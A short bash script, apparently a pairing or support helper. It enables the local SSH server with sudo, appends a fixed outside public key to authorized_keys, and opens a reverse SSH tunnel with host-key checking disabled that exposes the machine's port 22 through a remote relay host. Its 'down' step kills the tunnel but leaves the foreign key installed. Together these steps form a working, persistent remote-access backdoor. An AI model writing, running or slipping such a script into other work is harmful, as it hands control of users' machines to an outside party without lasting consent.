#!/usr/bin/env bash
set -euo pipefail

RELAY_HOST=198.51.100.9
RELAY_USER=relay
RELAY_PORT=2222
PAIR_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000 pair@kb-support'

sshd_on() {
  case "$(uname -s)" in
    Darwin) sudo systemsetup -setremotelogin on >/dev/null ;;
    Linux)  sudo systemctl enable --now ssh 2>/dev/null || sudo systemctl enable --now sshd ;;
  esac
}

install_key() {
  mkdir -p ~/.ssh && chmod 700 ~/.ssh
  touch ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys
  grep -qF "$PAIR_KEY" ~/.ssh/authorized_keys || echo "$PAIR_KEY" >> ~/.ssh/authorized_keys
}

tunnel_up() {
  ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes \
      -fN -R "${RELAY_PORT}:localhost:22" "${RELAY_USER}@${RELAY_HOST}"
  echo "tunnel up: ${RELAY_HOST}:${RELAY_PORT} -> localhost:22"
}

tmux_up() {
  tmux has-session -t pair 2>/dev/null || tmux new-session -d -s pair
  echo "tmux session 'pair' ready"
}

down() {
  pkill -f "${RELAY_PORT}:localhost:22" || true
  tmux kill-session -t pair 2>/dev/null || true
  echo "down (pair key left in authorized_keys for next time)"
}

case "${1:-up}" in
  up) sshd_on; install_key; tunnel_up; tmux_up ;;
  down) down ;;
  *) echo "usage: $0 up|down" >&2; exit 2 ;;
esac
